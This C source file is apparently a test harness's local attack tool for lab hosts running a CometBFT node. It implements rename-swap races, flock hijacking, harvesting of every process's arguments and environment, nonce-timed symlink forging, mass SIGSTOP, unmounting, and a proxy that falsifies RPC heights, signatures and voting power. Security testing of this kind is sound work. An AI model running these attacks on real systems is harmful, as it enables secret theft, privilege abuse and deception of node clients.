/* What an attacker on a host would bring along: one static program, built by the tests (attacks/mod.rs) and put on lab
 * hosts as /usr/local/bin/attack. Everything here runs as an ordinary account, but for `peak` and what controls start.
 *
 *   swap A B                    exchanges the two names for ever, as fast as the kernel does it
 *   after FILE COUNT A B MS     waits until FILE was read to its end COUNT times, exchanges A and B for MS milliseconds
 *   grab FILE                   opens FILE and keeps everybody else's flock(2) out
 *   spy OUT                     what this process has inherited and may do
 *   sample OUT                  every new argument list and environment of any process that can be seen, for ever
 *   forge FILE LINK TEXT        waits for NONCE= in FILE, then LINK points at TEXT, its @ being the nonce
 *   peak OUT                    the most memory that any shell or text tool of root has had, in kB, for ever
 *   stop                        stops every process of the same account, for ever
 *   listen COUNT                listens on so many ports
 *   vanish FILE MOUNT           once FILE is opened (a program: run), MOUNT is not mounted any more
 *   lie PORT UPSTREAM FILE      a node's RPC that relays UPSTREAM, another port, and says of it what FILE says
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void nap(long ms) {
  struct timespec t = {ms / 1000, ms % 1000 * 1000000};
  nanosleep(&t, NULL);
}

static int exchange(const char *a, const char *b) { return renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE); }

static void swap(const char *a, const char *b) {
  for (unsigned n = 1;; n++) {
    if (exchange(a, b) && n % 64 == 0) nap(1);
    if (n % 7 == 0) nap(n % 3); /* two processors: the others must get on */
  }
}

static int after(const char *file, int count, const char *a, const char *b, long ms) {
  char events[4096];
  int watch = inotify_init();
  if (watch < 0 || inotify_add_watch(watch, file, IN_CLOSE_NOWRITE) < 0) return perror("after"), 1;
  puts("watches");
  fflush(stdout);
  while (count > 0) {
    ssize_t length = read(watch, events, sizeof events);
    for (ssize_t at = 0; at < length && count > 0; count--)
      at += sizeof(struct inotify_event) + ((struct inotify_event *)(events + at))->len;
  }
  if (exchange(a, b)) return perror("exchange"), 1;
  puts("swapped");
  fflush(stdout);
  nap(ms);
  if (exchange(a, b)) return perror("exchange back"), 1;
  return 0;
}

static int grab(const char *file) {
  int fd = open(file, O_RDONLY);
  if (fd < 0 || flock(fd, LOCK_EX | LOCK_NB)) return perror("grab"), 1;
  puts("held");
  fflush(stdout);
  for (;;) pause();
}

static void copy_lines(FILE *out, const char *file, const char *prefix) {
  char line[4096];
  FILE *in = fopen(file, "r");
  while (in && fgets(line, sizeof line, in))
    if (!*prefix || strstr(line, prefix)) fprintf(out, "%s%s", *prefix ? "" : "group ", line);
  if (in) fclose(in);
}

static int spy(const char *path) {
  FILE *out = fopen(path, "w");
  if (!out) return perror("spy"), 1;
  for (int fd = 0; fd < 256; fd++) {
    char name[32], target[4096];
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    ssize_t length = fd == fileno(out) ? -1 : readlink(name, target, sizeof target - 1);
    if (length >= 0) fprintf(out, "fd %d %.*s\n", fd, (int)length, target);
  }
  int terminal = open("/dev/tty", O_RDWR);
  fprintf(out, "terminal %s\n", terminal < 0 ? "none" : "open");
  fprintf(out, "leads its session %s\n", getsid(0) == getpid() || getsid(0) == getppid() ? "yes" : "no");
  fflush(out);
  int status = system("sudo -n true </dev/null >/dev/null 2>&1");
  fprintf(out, "sudo %s\n", status == 0 ? "works" : "refused");
  copy_lines(out, "/proc/self/status", "NoNewPrivs");
  copy_lines(out, "/proc/self/status", "CapBnd");
  copy_lines(out, "/proc/self/status", "Seccomp:");
  copy_lines(out, "/proc/self/cgroup", "");
  extern char **environ;
  for (char **one = environ; *one; one++) fprintf(out, "env %s\n", *one);
  return fclose(out);
}

/* What was written before: a set of hashes. */
static int is_new(const char *bytes, ssize_t length) {
  static unsigned long seen[1 << 16];
  unsigned long hash = 5381;
  for (ssize_t i = 0; i < length; i++) hash = hash * 33 ^ (unsigned char)bytes[i];
  hash |= 1;
  for (unsigned at = hash % (1 << 16), n = 0; n < 64; at = (at + 1) % (1 << 16), n++) {
    if (seen[at] == hash) return 0;
    if (!seen[at]) return seen[at] = hash, 1;
  }
  return 1;
}

static ssize_t slurp(const char *path, char *into, size_t room) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  ssize_t all = 0, some;
  while ((size_t)all < room - 1 && (some = read(fd, into + all, room - 1 - all)) > 0) all += some;
  close(fd);
  into[all] = 0;
  return all;
}

static void sample(const char *path) {
  static char bytes[1 << 17];
  FILE *out = fopen(path, "w");
  if (!out) return perror("sample");
  for (;;) {
    DIR *all = opendir("/proc");
    for (struct dirent *one; (one = readdir(all));) {
      const char *files[] = {"cmdline", "environ"};
      for (int i = 0; i < 2 && isdigit((unsigned char)*one->d_name); i++) {
        char name[64];
        snprintf(name, sizeof name, "/proc/%.20s/%s", one->d_name, files[i]);
        ssize_t length = slurp(name, bytes, sizeof bytes);
        if (length <= 0 || !is_new(bytes, length)) continue;
        for (ssize_t at = 0; at < length; at++)
          if (!bytes[at]) bytes[at] = ' ';
        fprintf(out, "%s\n", bytes);
        fflush(out);
      }
    }
    closedir(all);
  }
}

static void forge(const char *file, const char *link, const char *text) {
  static char bytes[1 << 20], target[4096], fresh[4096];
  char last[256] = "";
  for (;; nap(1)) {
    if (slurp(file, bytes, sizeof bytes) < 0) continue;
    char *found = NULL;
    for (char *at = bytes; (at = strstr(at, "NONCE=")); at++)
      if (isalnum((unsigned char)at[6]) || at[6] == '\'') found = at + 6;
    if (!found) continue;
    if (*found == '\'') found++;
    size_t length = strspn(found, "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_");
    if (length < 8 || length >= sizeof last || !strncmp(last, found, length)) continue;
    snprintf(last, sizeof last, "%.*s", (int)length, found);
    char *to = target;
    for (const char *from = text; *from && to < target + sizeof target - 300; from++)
      to += *from == '@' ? sprintf(to, "%s", last) : sprintf(to, "%c", *from);
    snprintf(fresh, sizeof fresh, "%s.forged", link);
    unlink(fresh);
    if (symlink(target, fresh) || rename(fresh, link)) perror("forge");
  }
}

static void peak(const char *path) {
  static char bytes[1 << 14];
  long most = 0;
  for (;; nap(5)) {
    DIR *all = opendir("/proc");
    for (struct dirent *one; (one = readdir(all));) {
      char name[64], *at;
      snprintf(name, sizeof name, "/proc/%.20s/status", one->d_name);
      if (!isdigit((unsigned char)*one->d_name) || slurp(name, bytes, sizeof bytes) <= 0) continue;
      /* Nor the node itself: what it reads of its own files is its own matter. */
      if (!strncmp(bytes, "Name:\tsystemd", 13) || !strncmp(bytes, "Name:\tcometbft", 14) || !(at = strstr(bytes, "VmHWM:"))) continue;
      long kb = atol(at + 6);
      if (kb <= most) continue;
      most = kb;
      FILE *out = fopen(path, "w");
      if (out) fprintf(out, "%ld %.*s\n", most, (int)strcspn(bytes + 6, "\n"), bytes + 6), fclose(out);
    }
    closedir(all);
  }
}

static void stop(void) {
  for (;; nap(1)) kill(-1, SIGSTOP);
}

static int listen_on(int count) {
  struct rlimit limit = {count + 100, count + 100};
  if (setrlimit(RLIMIT_NOFILE, &limit)) return perror("listen"), 1;
  for (int n = 0; n < count; n++) {
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(s, (void *)&here, sizeof here) || listen(s, 1)) return perror("listen"), 1;
  }
  puts("listens");
  fflush(stdout);
  for (;;) pause();
}

static int vanish(const char *file, const char *mount) {
  char events[4096];
  int watch = inotify_init();
  if (watch < 0 || inotify_add_watch(watch, file, IN_OPEN) < 0) return perror("vanish"), 1;
  puts("watches");
  fflush(stdout);
  if (read(watch, events, sizeof events) < 0 || umount2(mount, MNT_DETACH)) return perror("vanish"), 1;
  puts("vanished");
  fflush(stdout);
  for (;;) pause();
}

/* ---- a lying RPC. FILE: `add N` (to heights), `hide ADDRESS` (its signatures), `show ADDRESS` (as signer in the place of
 * each that is absent), `power FROM TO` (in sets of validators), `endless` (pages of them); a line each. ---- */

static char *replaced(char *text, const char *old, const char *new) {
  size_t count = 0, was = strlen(old), is = strlen(new);
  for (char *at = text; (at = strstr(at, old)); at += was) count++;
  char *made = malloc(strlen(text) + count * (is > was ? is - was : 0) + 1), *to = made, *from = text, *at;
  for (; (at = strstr(from, old)); from = at + was) {
    memcpy(to, from, at - from);
    to += at - from;
    memcpy(to, new, is);
    to += is;
  }
  strcpy(to, from);
  free(text);
  return made;
}

/* Each number behind `key` grows. */
static char *grown(char *text, const char *key, long by) {
  size_t count = 0, length = strlen(key);
  for (char *at = text; (at = strstr(at, key)); at += length) count++;
  char *made = malloc(strlen(text) + count * 24 + 1), *to = made, *from = text, *at;
  for (; (at = strstr(from, key)); from = at) {
    at += length;
    memcpy(to, from, at - from);
    to += at - from;
    to += sprintf(to, "%ld", strtol(at, &at, 10) + by);
  }
  strcpy(to, from);
  free(text);
  return made;
}

static int dial(int port) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  int s = socket(AF_INET, SOCK_STREAM, 0);
  return connect(s, (void *)&to, sizeof to) ? close(s), -1 : s;
}

static void answer(int client, int upstream, const char *file) {
  static char request[1 << 16], lies[1 << 12], asks[1 << 16];
  size_t got = 0;
  ssize_t some;
  while (!strstr(request, "\r\n\r\n") && got < sizeof request - 1 && (some = read(client, request + got, sizeof request - 1 - got)) > 0)
    request[got += some] = 0;
  if (slurp(file, lies, sizeof lies) < 0) *lies = 0;
  char *line = strstr(lies, "add "), *at, path[2048] = "/";
  long add = line ? atol(line + 4) : 0;
  sscanf(request, "%*s %2000s", path);
  if ((at = strstr(path, "height="))) {
    char *digits = at + 7 + (!strncmp(at + 7, "%22", 3) ? 3 : 0), rest[1024];
    long height = strtol(digits, &line, 10);
    snprintf(rest, sizeof rest, "%.1000s", line);
    if (height > add) snprintf(digits, path + sizeof path - digits, "%ld%s", height - add, rest);
  }
  if (strstr(lies, "endless") && (at = strstr(path, "&page="))) *at = 0;
  int node = dial(upstream);
  snprintf(asks, sizeof asks, "GET %s HTTP/1.0\r\nHost: localhost\r\n\r\n", path);
  if (node < 0 || write(node, asks, strlen(asks)) < 0) return;
  size_t room = 1 << 16, length = 0;
  char *reply = malloc(room);
  while ((some = read(node, reply + length, room - length - 1)) > 0)
    if (room - (length += some) < 2) reply = realloc(reply, room *= 2);
  reply[length] = 0;
  close(node);
  char *body = strstr(reply, "\r\n\r\n");
  body = strdup(body ? body + 4 : "");
  if (add && strncmp(path, "/validators", 11)) body = grown(body, "\"latest_block_height\":\"", add), body = grown(body, "\"height\":\"", add);
  if (strstr(lies, "endless") && (at = strstr(body, "\"total\":\""))) {
    snprintf(asks, sizeof asks, "%.60s", at);
    at = strchr(asks + 9, '"');
    if (at) at[1] = 0, body = replaced(body, asks, "\"total\":\"4000000000\"");
  }
  for (char *words = strtok(lies, "\n"); words; words = strtok(NULL, "\n")) {
    char one[256] = "", two[256] = "", from[600], to[600];
    if (sscanf(words, "hide %255s", one) == 1) {
      snprintf(from, sizeof from, "\"block_id_flag\":2,\"validator_address\":\"%s\"", one);
      body = replaced(body, from, "\"block_id_flag\":1,\"validator_address\":\"\"");
    } else if (sscanf(words, "show %255s", one) == 1) {
      snprintf(to, sizeof to, "\"block_id_flag\":2,\"validator_address\":\"%s\"", one);
      body = replaced(body, "\"block_id_flag\":1,\"validator_address\":\"\"", to);
    } else if (sscanf(words, "power %255s %255s", one, two) == 2) {
      snprintf(from, sizeof from, "\"voting_power\":\"%s\"", one), snprintf(to, sizeof to, "\"voting_power\":\"%s\"", two);
      body = replaced(body, from, to);
    }
  }
  dprintf(client, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n", strlen(body));
  for (size_t sent = 0, all = strlen(body); sent < all && (some = write(client, body + sent, all - sent)) > 0;) sent += some;
}

static int lie(int port, int upstream, const char *file) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  int s = socket(AF_INET, SOCK_STREAM, 0), yes = 1;
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
  if (bind(s, (void *)&here, sizeof here) || listen(s, 64)) return perror("lie"), 1;
  signal(SIGCHLD, SIG_IGN);
  for (;;) {
    int client = accept(s, NULL, NULL);
    if (client >= 0 && fork() == 0) answer(client, upstream, file), _exit(0);
    if (client >= 0) close(client);
  }
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  if (!strcmp(what, "swap") && argc == 4) swap(argv[2], argv[3]);
  if (!strcmp(what, "after") && argc == 7) return after(argv[2], atoi(argv[3]), argv[4], argv[5], atol(argv[6]));
  if (!strcmp(what, "grab") && argc == 3) return grab(argv[2]);
  if (!strcmp(what, "spy") && argc == 3) return spy(argv[2]);
  if (!strcmp(what, "sample") && argc == 3) sample(argv[2]);
  if (!strcmp(what, "forge") && argc == 5) forge(argv[2], argv[3], argv[4]);
  if (!strcmp(what, "peak") && argc == 3) peak(argv[2]);
  if (!strcmp(what, "stop") && argc == 2) stop();
  if (!strcmp(what, "listen") && argc == 3) return listen_on(atoi(argv[2]));
  if (!strcmp(what, "vanish") && argc == 4) return vanish(argv[2], argv[3]);
  if (!strcmp(what, "lie") && argc == 5) return lie(atoi(argv[2]), atoi(argv[3]), argv[4]);
  fprintf(stderr, "attack: what?\n");
  return 2;
}
